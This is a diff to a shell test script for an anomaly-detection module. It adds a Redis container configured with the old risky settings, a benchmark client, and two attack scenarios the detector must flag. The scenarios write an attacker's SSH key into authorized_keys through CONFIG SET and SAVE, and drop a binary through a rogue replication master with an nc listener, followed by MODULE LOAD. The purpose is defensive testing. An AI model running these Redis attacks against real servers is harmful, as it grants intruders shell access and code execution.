@@ -36,6 +36,10 @@
 #          attacker's is curl
 #   pg     PostgreSQL 15; client pgbench
 #   cache  memcached; client memcaslap (libmemcached-tools' memaslap)
+#   kv     Redis 7 as a cache (no persistence), configured as old images
+#          were (CONFIG SET may move the dump file, MODULE LOAD is on): the
+#          flaws the classic attacks on exposed Redis servers use; client
+#          redis-benchmark, the attacker's redis-cli
 #   side   a quiet busybox sidecar: sleeps, children, signals to itself
 # Each is trained with plain 'sysanomctl train --until-stable NAME' (no other
 # option, no 'sysanomctl set') until its mode is enforcing; then it works as
@@ -53,9 +57,9 @@
 
 PG=/usr/lib/postgresql/15/bin
 TRAIN_MAX=600	# seconds they may take to enforce (training, then calibration), in parallel
-WEB_PORT=8080 PG_PORT=5432 MC_PORT=11211 RSH_PORT=4444
+WEB_PORT=8080 PG_PORT=5432 MC_PORT=11211 KV_PORT=6379 RSH_PORT=4444
 . /etc/sysanom-test.conf
-if [ "${SERVICES_PG:-0}" = 1 ]; then SERVICES="web pg cache side"; else SERVICES="web cache side"; fi
+if [ "${SERVICES_PG:-0}" = 1 ]; then SERVICES="web pg cache kv side"; else SERVICES="web cache kv side"; fi
 has() { case " $SERVICES " in *" $1 "*) return 0 ;; esac; return 1; }
 T0=$(date +%s)
 elapsed() { echo $(($(date +%s) - T0)); }
@@ -183,6 +187,16 @@ chmod 0600 "$r/etc/shadow"
 echo "exec /usr/bin/memcached -l 127.0.0.1 -p $MC_PORT -U 0 -m 32 -t 2 -c 256" > "$r/workload.sh"
 svc_start cache
 
+# kv: Redis as redis (uid 103), its dump directory its home.
+b=$(svc_bundle kv 103 103) || fail "kv: no bundle"
+r=$b/rootfs
+mkdir -p "$r/var/lib/redis/.ssh"
+chown -R 103:103 "$r/var/lib/redis"
+echo "exec /usr/bin/redis-server --bind 127.0.0.1 --port $KV_PORT --dir /var/lib/redis" \
+	"--save '' --appendonly no --maxmemory 32mb --maxmemory-policy allkeys-lru" \
+	"--enable-protected-configs yes --enable-module-command yes" > "$r/workload.sh"
+svc_start kv
+
 # side: the quiet sidecar, busybox only (the /bundle template).
 ln -sf busybox /bundle/rootfs/bin/kill
 run start_container side svc-side 'n=0
@@ -191,6 +205,7 @@ while :; do sleep 1 & wait; kill -USR1 $$; echo "$n" > /tmp/beat; done'
 
 # --- the services answer their clients -----------------------------------------
 web_get() { in_net web curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT$1"; }
+kv_cli() { in_net kv redis-cli -h 127.0.0.1 -p "$KV_PORT" "$@"; }
 pg_sql() { in_net pg "$PG/psql" -h 127.0.0.1 -p "$PG_PORT" -U postgres -d postgres -XAtq -c "$1"; }
 # shellcheck disable=SC2317 # called through wait_for
 web_ok() { web_get '/cgi-bin/search?q=apple' | grep -q 'apple pie'; }
@@ -200,13 +215,15 @@ note "web: search page answers ($(elapsed)s)"
 wait_for 60 in_net cache memcstat --servers="127.0.0.1:$MC_PORT" ||
 	fail "cache: memcached does not answer: $(cat /tmp/cache.out)"
 note "cache: memcached answers ($(elapsed)s)"
+wait_for 60 kv_cli ping || fail "kv: Redis does not answer: $(cat /tmp/kv.out)"
+note "kv: Redis answers ($(elapsed)s)"
 has pg && { wait_for 300 pg_sql 'select 1' ||
 	fail "pg: PostgreSQL does not answer: $(pg_sql 'select 1' 2>&1; cat /tmp/pg.out; tail -n 20 /tmp/bundle-pg/rootfs/tmp/initdb.log 2> /dev/null)"
 note "pg: PostgreSQL answers ($(elapsed)s)"
 in_net pg "$PG/pgbench" -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres > /tmp/pgbench-init.log 2>&1 ||
 	fail "pg: pgbench -i failed: $(tail -n 5 /tmp/pgbench-init.log)"
 note "pg: pgbench tables ready ($(elapsed)s)"; }
-note "versions: $(/usr/sbin/nginx -v 2>&1 | sed 's/.*: //'), fcgiwrap, $(has pg && "$PG/postgres" -V), $(/usr/bin/memcached -V), $(curl -V | head -n1 | cut -d' ' -f1-2)"
+note "versions: $(/usr/sbin/nginx -v 2>&1 | sed 's/.*: //'), fcgiwrap, $(has pg && "$PG/postgres" -V), $(/usr/bin/memcached -V), $(/usr/bin/redis-server -v | cut -d' ' -f1-3), $(curl -V | head -n1 | cut -d' ' -f1-2)"
 
 # --- clients: ordinary work, from now to the end --------------------------------
 # Each loop counts its rounds in /tmp/NAME.rounds; a round's failure is
@@ -251,8 +268,19 @@ while :; do
 	sed -n 's/^Run time: .* Ops: \([0-9]*\).*/\1/p' /tmp/memcaslap.log >> /tmp/cache.ops
 done
 C
+# redis-benchmark's usual commands on 10000 random keys; lists pushed and
+# popped alike, so they do not grow.
+cat > /tmp/client-kv.sh <<C
+i=0 e=0
+while :; do
+	redis-benchmark -h 127.0.0.1 -p $KV_PORT -c 4 -n 4000 -r 10000 -q \
+		-t set,get,incr,lpush,rpop,hset,mset > /tmp/redis-benchmark.log 2>&1 || e=\$((e + 1))
+	i=\$((i + 1)); echo \$i > /tmp/kv.rounds; echo \$e > /tmp/kv.errors
+	echo \$((4000 * \$(tr '\\r' '\\n' < /tmp/redis-benchmark.log | grep -c 'requests per second'))) >> /tmp/kv.ops
+done
+C
 clients=""
-for s in web pg cache; do
+for s in web pg cache kv; do
 	has "$s" || continue
 	in_net "$s" sh "/tmp/client-$s.sh" > /dev/null 2>&1 &
 	clients="$clients $!"
@@ -263,7 +291,8 @@ sum() { [ -f "$1" ] && awk '{ s += $1 } END { print s + 0 }' "$1" || echo 0; }
 work_done() {
 	echo "web $(sum /tmp/web.reqs) requests ($(cat /tmp/web.errors 2> /dev/null || echo 0) runs failed)," \
 		"pg $(sum /tmp/pg.xacts) transactions ($(cat /tmp/pg.errors 2> /dev/null || echo 0) runs failed)," \
-		"cache $(sum /tmp/cache.ops) ops ($(cat /tmp/cache.errors 2> /dev/null || echo 0) runs failed)"
+		"cache $(sum /tmp/cache.ops) ops ($(cat /tmp/cache.errors 2> /dev/null || echo 0) runs failed)," \
+		"kv $(sum /tmp/kv.ops) requests ($(cat /tmp/kv.errors 2> /dev/null || echo 0) runs failed)"
 }
 sleep 5
 
@@ -336,7 +365,7 @@ note "all enforcing after ${tmax}s; ordinary work for ${wait_s}s more ($(work_do
 [ "$wait_s" -le 0 ] || sleep "$wait_s"
 note "ordinary work done: $(work_done)"
 note "guest memory (MiB): $(free -m | awk '/^Mem:/ { print "total " $2 ", used " $3 ", free " $4 }')"
-for s in web pg cache; do
+for s in web pg cache kv; do
 	has "$s" || continue
 	kill -0 "$(ct_pid "$s")" 2> /dev/null || fail "$s: the container died: $(cat "/tmp/$s.out")"
 done
@@ -345,6 +374,8 @@ web_get '/cgi-bin/search?q=cherry' | grep -q 'cherry tart' || fail "web: the sea
 [ "$(sum /tmp/web.reqs)" -gt 0 ] || fail "web: wrk made no request: $(tail -n 5 /tmp/wrk.log)"
 ! has pg || [ "$(sum /tmp/pg.xacts)" -gt 0 ] || fail "pg: pgbench processed no transaction: $(tail -n 5 /tmp/pgbench.log)"
 [ "$(sum /tmp/cache.ops)" -gt 0 ] || fail "cache: memcaslap ran no operation: $(tail -n 5 /tmp/memcaslap.log)"
+[ "$(kv_cli ping)" = PONG ] || fail "kv: Redis stopped answering"
+[ "$(sum /tmp/kv.ops)" -gt 0 ] || fail "kv: redis-benchmark made no request: $(tail -c 300 /tmp/redis-benchmark.log)"
 for s in $SERVICES; do
 	a=$(alerts_of "$s")
 	result "$s: $a alert(s) in ordinary work"
@@ -444,6 +475,32 @@ runc exec --user 0:0 cache sh -c 'mkdir /var/tmp/.m && cp /bin/busybox /var/tmp/
 	fail "cache: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
 judge cache "binary dropped and run, crontab written"
 
+snapshot
+# The classic attack on an exposed Redis: move the dump file into the
+# service user's ~/.ssh and save a key of the attacker's in it.
+{ kv_cli CONFIG SET dir /var/lib/redis/.ssh && kv_cli CONFIG SET dbfilename authorized_keys &&
+	kv_cli SET x "$(printf '\n\nssh-ed25519 AAAAC3Nza attacker\n\n')" && kv_cli SAVE; } > /tmp/i.out 2>&1
+grep -q attacker /tmp/bundle-kv/rootfs/var/lib/redis/.ssh/authorized_keys 2> /dev/null ||
+	fail "kv: SAVE did not write ~/.ssh/authorized_keys: $(head -c 300 /tmp/i.out)"
+judge kv "file written by the server (CONFIG SET dir ~/.ssh, SAVE)"
+
+snapshot
+# The rogue master: the attacker's "master" answers the replication
+# handshake with a binary, which the server saves as its dump file; then
+# MODULE LOAD (which Redis 7 refuses, the file not being executable).
+(printf '+PONG\r\n+OK\r\n+OK\r\n+FULLRESYNC %s 1\r\n$%d\r\n' \
+	0123456789abcdef0123456789abcdef01234567 "$(stat -c %s /bin/busybox)"
+	cat /bin/busybox; sleep 6) | in_net kv nc -l -p "$RSH_PORT" > /tmp/master.in 2>&1 &
+lpid=$!
+sleep 1
+{ kv_cli CONFIG SET dir /tmp && kv_cli CONFIG SET dbfilename exp.so &&
+	kv_cli REPLICAOF 127.0.0.1 "$RSH_PORT"; sleep 4; kv_cli REPLICAOF NO ONE
+	kv_cli MODULE LOAD /tmp/exp.so; } > /tmp/i.out 2>&1
+wait "$lpid"
+cmp -s /bin/busybox /tmp/bundle-kv/rootfs/tmp/exp.so ||
+	fail "kv: the rogue master's binary was not written: $(head -c 300 /tmp/i.out) $(tail -n 5 /tmp/kv.out)"
+judge kv "binary dropped through a rogue master (REPLICAOF), MODULE LOAD"
+
 a=$(alerts_of side)
 [ "$a" = 0 ] || problem "side: the sidecar raised $a alert(s)"
 note "work done: $(work_done)"
@@ -454,7 +511,7 @@ sysanomctl alerts | tail -n 12
 kill $clients 2> /dev/null
 for s in $SERVICES; do stop_container "$s"; done
 # The later scenarios get their memory back (the database is ~50 MB of tmpfs).
-rm -rf /tmp/bundle-web /tmp/bundle-pg /tmp/bundle-cache /tmp/bundle-side
+rm -rf /tmp/bundle-web /tmp/bundle-pg /tmp/bundle-cache /tmp/bundle-kv /tmp/bundle-side
 run rmmod sysanom
 note "total $(elapsed)s"
 echo "SUMMARY (scenario time $(elapsed)s):$summary"
